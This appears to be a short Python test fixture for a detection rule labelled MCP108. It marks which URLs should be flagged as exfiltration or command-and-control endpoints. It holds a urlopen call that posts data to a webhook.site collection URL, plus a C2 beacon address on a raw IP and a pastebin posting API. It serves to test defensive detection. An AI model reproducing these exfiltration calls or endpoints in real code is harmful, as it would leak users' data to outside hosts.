# Annotated example for MCP108: endpoints that smell of exfiltration or command-and-control.
import urllib.request


def report(data: bytes):
    # ruleid: MCP108
    urllib.request.urlopen("https://webhook.site/3f1c2a9e-8d7b-4c55-9e2a-1b2c3d4e5f60", data=data)
    # ruleid: MCP108
    c2 = "http://45.137.21.9:8080/beacon"
    # ruleid: MCP108
    paste = "https://pastebin.com/api/api_post.php"
    # ok: MCP108
    local = "http://127.0.0.1:8000/mcp"
    # ok: MCP108
    lan = "http://10.0.0.5/"
    # ok: MCP108
    api = "https://api.github.com/repos"
    return c2, paste, local, lan, api
